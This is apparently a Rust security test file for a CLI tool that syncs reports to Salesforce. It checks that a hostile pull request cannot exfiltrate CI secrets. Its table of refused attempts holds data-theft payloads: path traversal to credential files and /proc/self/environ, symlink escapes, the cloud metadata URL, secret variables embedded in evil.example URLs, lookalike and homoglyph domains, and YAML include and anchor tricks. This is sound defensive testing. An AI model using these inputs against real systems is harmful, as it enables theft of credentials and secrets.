//! Ways of a pull request to carry a secret away. Whoever writes one controls every file of the repository and none of the machine: not its
//! environment, not what lies outside. Each way is refused before anything leaves, or leaves without the secret; looked for in what is printed, in every
//! file written, in the org's transcript, and in what a server got that everybody outside is reached through.

use std::os::unix::fs::symlink;
use std::path::Path;

use super::fake::{Fake, Reply};
use super::{SEED, csv, people};
use crate::scene::{Ran, Scene};

/// Stands in every secret of the machine.
const MARK: &str = "MARKEDSECRET";

struct Machine {
    scene: Scene,
    /// Outside of the repository; with secrets in it.
    outside: tempfile::TempDir,
    /// What everybody else than this machine is reached through.
    proxy: Fake,
}

impl Machine {
    fn new() -> Self {
        let mut scene = Scene::seeded(SEED);
        let proxy = Fake::giving(Reply::new(502, ""));
        for name in ["HTTPS_PROXY", "HTTP_PROXY", "ALL_PROXY"] {
            scene.set(name, &proxy.url(""));
        }
        scene.set("CI", "true");
        for name in [
            "DEPLOY_KEY",
            "AWS_SECRET_ACCESS_KEY",
            "AZURE_STORAGE_ACCOUNT_KEY",
            "GOOGLE_OAUTH_ACCESS_TOKEN",
            "REPORT_TOKEN",
        ] {
            scene.set(name, &format!("{MARK}-{name}"));
        }
        for (name, value) in [
            ("AWS_ACCESS_KEY_ID", "AKIA"),
            ("AZURE_STORAGE_ACCOUNT_NAME", "acme"),
            ("REPORT_TOKEN_HOST", "reports.example.com"),
        ] {
            scene.set(name, value);
        }
        let outside = tempfile::tempdir().unwrap();
        std::fs::write(outside.path().join("secret.csv"), format!("Key,Count\n{MARK}@example.org,{MARK}\n")).unwrap();
        std::fs::write(outside.path().join("secret.yaml"), format!("footbridge: 1\nkind: {MARK}\n")).unwrap();
        scene.write(".git/config", &format!("Key,Count\n{MARK},1\n"));
        scene.write(".footbridge/kept.csv", &format!("Key,Count\n{MARK},1\n"));
        scene.write("exports/r.csv", &csv(1));
        people(&scene, "exports/r.csv", "");
        Self { scene, outside, proxy }
    }

    fn link(&self, name: &str, to: impl AsRef<Path>) {
        let place = self.scene.path(name);
        std::fs::create_dir_all(place.parent().unwrap()).unwrap();
        let _ = std::fs::remove_file(&place);
        let _ = std::fs::remove_dir_all(&place);
        symlink(to, place).unwrap();
    }

    /// `orgs.yaml` with these lines for the sandbox of `acme`.
    fn orgs(&self, lines: &str) {
        let lines: String = lines.lines().map(|line| format!("    {line}\n")).collect();
        let id = self.scene.org().org_id();
        self.scene.write(
            "integrations/orgs.yaml",
            &format!("footbridge: 1\nkind: orgs\nacme:\n  sandbox:\n    org_id: {id}\n{lines}"),
        );
    }

    /// With this log-in to the right org.
    fn auth(&self, auth: &str) {
        self.orgs(&format!("domain: {}\nauth: {auth}", self.scene.org().url()));
    }

    /// With this source.
    fn source(&self, source: &str) {
        people(&self.scene, source, "");
    }

    #[track_caller]
    fn run(&self, way: &str, arguments: &[&str]) -> Ran {
        let ran = self.scene.run(arguments);
        for text in [&ran.out, &ran.err] {
            assert!(!text.contains(MARK), "{way}: {arguments:?} prints it: {text}");
        }
        self.clean(way);
        ran
    }

    #[track_caller]
    fn clean(&self, way: &str) {
        walk(self.scene.root(), &mut |path| {
            let planted = [".git/config", ".footbridge/kept.csv"].iter().any(|name| path.ends_with(name));
            let text = std::fs::read(path).unwrap_or_default();
            assert!(planted || !String::from_utf8_lossy(&text).contains(MARK), "{way}: written to {}", path.display());
        });
        for call in self.scene.org().calls() {
            let call = format!("{} {} {:?} {:?}", call.method, call.path, call.query, call.headers);
            assert!(!call.contains(MARK), "{way}: sent to the org: {call}");
        }
        for asked in self.proxy.seen() {
            assert!(!format!("{asked:?}").contains(MARK), "{way}: sent away: {asked:?}");
        }
    }
}

/// Every file below a folder; links are not followed.
fn walk(folder: &Path, each: &mut dyn FnMut(&Path)) {
    for entry in std::fs::read_dir(folder).unwrap().flatten() {
        match entry.file_type() {
            Ok(kind) if kind.is_dir() => walk(&entry.path(), each),
            Ok(kind) if kind.is_file() => each(&entry.path()),
            _ => {}
        }
    }
}

type Prepare = fn(&Machine);

/// A way, what prepares it, and the code that refuses it.
const REFUSED: &[(&str, Prepare, &str)] = &[
    ("a path upwards", |m| m.source("../secret.csv"), "FB0307"),
    ("a path upwards in the middle", |m| m.source("exports/../../secret.csv"), "FB0307"),
    ("an absolute path", |m| m.source("/proc/self/environ"), "FB0307"),
    ("a home folder", |m| m.source("~/.aws/credentials"), "FB0307"),
    ("git's own folder", |m| m.source(".git/config"), "FB0307"),
    ("git's own folder, further down", |m| m.source("exports/.GIT/config"), "FB0307"),
    ("the local state", |m| m.source(".footbridge/kept.csv"), "FB0307"),
    (
        "a link to a file outside",
        |m| {
            m.link("exports/x.csv", m.outside.path().join("secret.csv"));
            m.source("exports/x.csv");
        },
        "FB0412",
    ),
    (
        "a link to a folder outside",
        |m| {
            m.link("data", m.outside.path());
            m.source("data/secret.csv");
        },
        "FB0412",
    ),
    (
        "a link to a link",
        |m| {
            m.link("one", "two");
            m.link("two", m.outside.path());
            m.source("one/secret.csv");
        },
        "FB0412",
    ),
    (
        "a link to the process's environment",
        |m| {
            m.link("exports/x.csv", "/proc/self/environ");
            m.source("exports/x.csv");
        },
        "FB0412",
    ),
    (
        "a link to git's own folder",
        |m| {
            m.link("innocent", ".git");
            m.source("innocent/config");
        },
        "FB0307",
    ),
    (
        "a link to the local state",
        |m| {
            m.link("innocent", ".footbridge");
            m.source("innocent/kept.csv");
        },
        "FB0307",
    ),
    ("a file by URL", |m| m.source("file:///etc/passwd"), "FB0308"),
    ("plain http", |m| m.source("http://evil.example/r.csv"), "FB0308"),
    ("the machine's metadata", |m| m.source("http://169.254.169.254/latest/meta-data/"), "FB0308"),
    ("a password in the URL", |m| m.source("https://user:pw@evil.example/r.csv"), "FB0308"),
    ("another host behind a user", |m| m.source("https://reports.example.com@evil.example/r.csv"), "FB0308"),
    ("a variable in the URL's query", |m| m.source("\"https://evil.example/r.csv?q=${DEPLOY_KEY}\""), "FB0301"),
    ("a variable in the URL's host", |m| m.source("\"https://${DEPLOY_KEY}.evil.example/r.csv\""), "FB0301"),
    ("a variable in a path", |m| m.source("\"exports/${DEPLOY_KEY}.csv\""), "FB0301"),
    ("a variable in a bucket's name", |m| m.source("\"s3://${DEPLOY_KEY}/r.csv\""), "FB0301"),
    (
        "a header to a host of one's own",
        |m| header(m, "https://evil.example/r.csv", "Authorization", "DEPLOY_KEY"),
        "FB0422",
    ),
    (
        "a secret of another host",
        |m| header(m, "https://evil.example/r.csv", "Authorization", "REPORT_TOKEN"),
        "FB0422",
    ),
    (
        "a host that begins alike",
        |m| header(m, "https://reports.example.com.evil.example/r.csv", "X-A", "REPORT_TOKEN"),
        "FB0422",
    ),
    ("a host that ends alike", |m| header(m, "https://evilreports.example.com/r.csv", "X-A", "REPORT_TOKEN"), "FB0422"),
    ("a host in other letters", |m| header(m, "https://rеports.example.com/r.csv", "X-A", "REPORT_TOKEN"), "FB0422"),
    (
        "another port of the host",
        |m| header(m, "https://reports.example.com:8443/r.csv", "X-A", "REPORT_TOKEN"),
        "FB0422",
    ),
    ("a Host header", |m| header(m, "https://reports.example.com/r.csv", "Host", "REPORT_TOKEN"), "FB0314"),
    (
        "a header in the catalogue",
        |m| {
            m.scene.write("integrations/r.yaml", "footbridge: 1\nkind: report\nname: R\nsource: { url: \"https://evil.example/r.csv\", headers: { X-A: \"${DEPLOY_KEY}\" } }\n");
            let text = m.scene.read("integrations/people.yaml");
            m.scene.write(
                "integrations/people.yaml",
                &text.replace("report:\n  name: People\n  source: exports/r.csv", "report: R"),
            );
        },
        "FB0422",
    ),
    (
        "a store of one's own for Google's token",
        |m| m.source("{ url: gs://bucket/r.csv, endpoint: \"https://evil.example\" }"),
        "FB0308",
    ),
    (
        "a store of one's own for Azure's key",
        |m| m.source("{ url: az://bucket/r.csv, endpoint: \"https://evil.example\" }"),
        "FB0308",
    ),
    (
        "a store over plain http",
        |m| m.source("{ url: s3://bucket/r.csv, endpoint: \"http://evil.example\" }"),
        "FB0308",
    ),
    (
        "a store with a password",
        |m| m.source("{ url: s3://bucket/r.csv, endpoint: \"https://a:b@evil.example\" }"),
        "FB0308",
    ),
    ("headers to a store", |m| m.source("{ url: s3://bucket/r.csv, headers: { X-A: \"${DEPLOY_KEY}\" } }"), "FB0310"),
    ("a domain that ends alike", |m| domain(m, "evilsalesforce.com"), "FB0304"),
    ("a domain that begins alike", |m| domain(m, "acme.my.salesforce.com.evil.example"), "FB0304"),
    ("a domain behind a user", |m| domain(m, "acme.my.salesforce.com@evil.example"), "FB0305"),
    ("a domain before a path", |m| domain(m, "evil.example/.my.salesforce.com"), "FB0305"),
    ("a domain before a fragment", |m| domain(m, "\"evil.example#.salesforce.com\""), "FB0305"),
    ("a domain in other letters", |m| domain(m, "acme.my.salesfоrce.com"), "FB0305"),
    ("a domain that is this machine only in part", |m| domain(m, "http://127.0.0.1.evil.example:80"), "FB0305"),
    ("a variable in a domain", |m| domain(m, "\"${DEPLOY_KEY}.my.salesforce.com\""), "FB0301"),
    (
        "a log-in sent elsewhere",
        |m| {
            m.orgs("domain: acme.my.salesforce.com\nlogin_url: https://evil.example\nauth: { flow: client_credentials, client_id: x, client_secret: \"${DEPLOY_KEY}\" }");
        },
        "FB0304",
    ),
    (
        "a log-in for plans sent elsewhere",
        |m| {
            m.orgs("domain: evil.example\nauth: { flow: access_token, token: \"${ORG_TOKEN}\" }\nplan_auth: { flow: access_token, token: \"${DEPLOY_KEY}\" }");
        },
        "FB0304",
    ),
    ("a variable in where:", |m| people(&m.scene, "exports/r.csv", "where: \"Name = '${DEPLOY_KEY}'\"\n"), "FB0301"),
    ("a variable in a goal", |m| people(&m.scene, "exports/r.csv", "goal: \"${DEPLOY_KEY}\"\n"), "FB0301"),
    ("a variable in a label", |m| people(&m.scene, "exports/r.csv", "labels: [\"${DEPLOY_KEY}\"]\n"), "FB0301"),
    (
        "a variable in an option",
        |m| {
            let text = m.scene.read("integrations/people.yaml");
            m.scene.write(
                "integrations/people.yaml",
                &text.replace("Count__c: Count", "Note__c: { column: Key, true_values: [\"${DEPLOY_KEY}\"] }"),
            );
        },
        "FB0301",
    ),
    (
        "a variable in the project",
        |m| m.scene.write("integrations/project.yaml", "footbridge: 1\nkind: project\nruns: \"${DEPLOY_KEY}\"\n"),
        "FB0301",
    ),
    (
        "a tag that reads",
        |m| {
            let text = m.scene.read("integrations/people.yaml");
            m.scene.write(
                "integrations/people.yaml",
                &text.replace("object: Lead", "object: !include /proc/self/environ"),
            );
        },
        "FB0111",
    ),
    (
        "an anchor of auth, used elsewhere",
        |m| {
            m.orgs("domain: acme.my.salesforce.com\nauth: &a { flow: access_token, token: \"${DEPLOY_KEY}\" }\nplan_auth: *a");
        },
        "FB0110",
    ),
    (
        "run logs outside",
        |m| m.scene.write("integrations/project.yaml", "footbridge: 1\nkind: project\nruns: ../elsewhere\n"),
        "FB0307",
    ),
    ("run logs behind a link", |m| m.link("runs", m.outside.path()), "FB0921"),
    ("run logs in git's folder", |m| m.link("runs", ".git"), "FB0921"),
    (
        "the local state behind a link",
        |m| {
            m.scene.write("runs/here/x", "");
            m.link(".footbridge", "runs/here");
        },
        "FB0921",
    ),
    (
        "the configuration behind a link",
        |m| {
            m.link("integrations", m.outside.path());
        },
        "FB0921",
    ),
    (
        "a file of the configuration behind a link",
        |m| m.link("integrations/x.yaml", m.outside.path().join("secret.yaml")),
        "FB0123",
    ),
    ("a folder of the configuration behind a link", |m| m.link("integrations/more", m.outside.path()), "FB0123"),
    (
        "a key that is the environment",
        |m| m.auth("{ flow: jwt, client_id: a, username: b, private_key_file: /proc/self/environ }"),
        "FB0510",
    ),
    (
        "a key file whose name is a secret",
        |m| m.auth("{ flow: jwt, client_id: a, username: b, private_key_file: \"${DEPLOY_KEY}\" }"),
        "FB0510",
    ),
    (
        "a key that is another secret",
        |m| m.auth("{ flow: jwt, client_id: a, username: b, private_key: \"${DEPLOY_KEY}\" }"),
        "FB0510",
    ),
    (
        "a callback elsewhere",
        |m| m.auth("{ flow: browser, client_id: a, callback: \"https://evil.example/back\" }"),
        "FB0",
    ),
    ("an option for sf", |m| m.auth("{ flow: sf_cli, target_org: \"--flags-dir=/tmp\" }"), "FB0"),
    ("an sf address that is another secret", |m| m.auth("{ flow: sf_cli, auth_url: \"${DEPLOY_KEY}\" }"), "FB0"),
];

fn header(machine: &Machine, url: &str, name: &str, variable: &str) {
    machine.source(&format!("{{ url: \"{url}\", headers: {{ {name}: \"${{{variable}}}\" }} }}"));
}

fn domain(machine: &Machine, domain: &str) {
    machine.orgs(&format!(
        "domain: {domain}\nauth: {{ flow: client_credentials, client_id: x, client_secret: \"${{DEPLOY_KEY}}\" }}"
    ));
}

#[test]
fn none_of_these_ways_carries_a_secret_away() {
    assert!(REFUSED.len() >= 20);
    for (way, prepare, code) in REFUSED {
        let machine = Machine::new();
        prepare(&machine);
        for arguments in [
            &["plan", "people", "-vv"] as &[&str],
            &["apply", "people", "--yes", "--json"],
            &["validate", "--online", "-vv"],
        ] {
            let ran = machine.run(way, arguments);
            assert!(ran.code == 3 || ran.code == 7 || ran.code == 1, "{way}: {arguments:?}: {ran:?}");
            let said = format!("{}{}", ran.out, ran.err);
            assert!(said.contains(code), "{way}: {arguments:?} does not say {code}: {said}");
        }
        assert!(machine.proxy.seen().is_empty(), "{way}: somebody outside was asked: {:?}", machine.proxy.seen());
        assert_eq!(machine.scene.write_calls(), 0, "{way}");
    }
}

/// Ways that are not refused, since they need not be: something leaves, and no secret with it.
#[test]
fn what_leaves_leaves_without_the_secret() {
    // An address of one's own is asked, without a header.
    let machine = Machine::new();
    machine.source("https://evil.example/r.csv");
    machine.run("a bare address", &["plan", "people", "-vv"]).exits(1).says("FB0414");
    assert!(!machine.proxy.seen().is_empty());
    assert!(machine.proxy.seen().iter().all(|asked| asked.method == "CONNECT" && asked.target == "evil.example:443"));

    // Another address for one environment does not inherit the headers.
    let machine = Machine::new();
    header(&machine, "https://reports.example.com/r.csv", "Authorization", "REPORT_TOKEN");
    let text = machine.scene.read("integrations/people.yaml");
    let text = text.replace("sandbox: {}", "sandbox: { source: \"https://evil.example/r.csv\" }");
    machine.scene.write("integrations/people.yaml", &text);
    machine.run("an address of the environment", &["plan", "people", "-vv"]).exits(1).says("FB0414");
    assert!(machine.proxy.seen().iter().all(|asked| asked.target == "evil.example:443"));

    // The right host gets it, and it alone: what it sends on to does not.
    let other = Fake::giving(Reply::new(200, csv(4)));
    let onward = other.url("/r.csv");
    let right = Fake::answering(move |_, _| Reply::new(307, "").with("Location", &onward));
    let machine = Machine::new();
    header(&machine, &right.url("/r.csv"), "Authorization", "REPORT_TOKEN");
    machine.run("a redirect", &["plan", "people", "-vv"]).exits(0);
    assert!(right.seen()[0].header("authorization").contains(MARK));
    assert!(!format!("{:?}", other.seen()).contains(MARK));

    // Values of the report that are put into a condition's place, and a page that answers with what it was sent.
    let echo =
        Fake::answering(|asked, _| Reply::new(403, asked.head.clone()).with("X-Echo", asked.header("authorization")));
    header(&machine, &echo.url("/r.csv"), "Authorization", "REPORT_TOKEN");
    machine.run("an echo", &["plan", "people", "-vv"]).exits(1);
    let echo = Fake::answering(|asked, _| {
        Reply::new(302, "").with("Location", &format!("http://{}.evil.example/", asked.header("authorization")))
    });
    header(&machine, &echo.url("/r.csv"), "Authorization", "REPORT_TOKEN");
    let ran = machine.scene.run(&["plan", "people", "-vv"]).exits(1);
    // A host's name is not a place to hide it in either: shown, it would stand in the log of a public repository.
    assert!(!ran.err.to_ascii_uppercase().contains(MARK), "{}", ran.err);

    // Schemas are written into a folder, not through a link.
    let machine = Machine::new();
    machine.link("schemas", machine.outside.path());
    let before = std::fs::read_dir(machine.outside.path()).unwrap().count();
    machine.run("schemas behind a link", &["schema", "--write"]).exits(3).says("FB0921");
    assert_eq!(std::fs::read_dir(machine.outside.path()).unwrap().count(), before);
}
